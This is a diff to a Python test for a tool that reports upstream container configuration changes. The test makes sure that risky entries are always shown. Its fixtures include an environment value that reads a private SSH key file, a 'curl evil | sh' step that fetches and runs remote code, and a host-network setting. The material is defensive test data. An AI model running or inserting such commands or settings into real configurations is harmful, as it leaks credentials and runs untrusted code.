@@ -54,13 +54,17 @@ def test_a_report_as_data_is_json() -> None:
 
 
 def test_the_first_report_always_shows_what_is_run_and_shown_to_the_container() -> None:
-    upstream = (*(Change("environment", f"V{n}", None, "1") for n in range(70)), CHANGES[4])
+    reading = Change("environment", "KEY", None, "${file:~/.ssh/id}")
+    host = Change("keys", "network", None, "host")
+    upstream = (*(Change("environment", f"V{n}", None, "1") for n in range(70)), reading, CHANGES[4], host)
     told = Told("m", None, AFTER, Trail("b.yml"), overlay=Overlay(only_upstream=upstream))
     assert list(lines(told)) == [
         "m: new, from u b.yml @ bbbbbbbb (2026-01-02)",
         "  taken over: 70 environment",
         "  only upstream:",
+        "    environment + KEY: `${file:~/.ssh/id}`",
         "    steps + curl evil | sh",
+        "    keys + network: `host`",
     ]
 
 
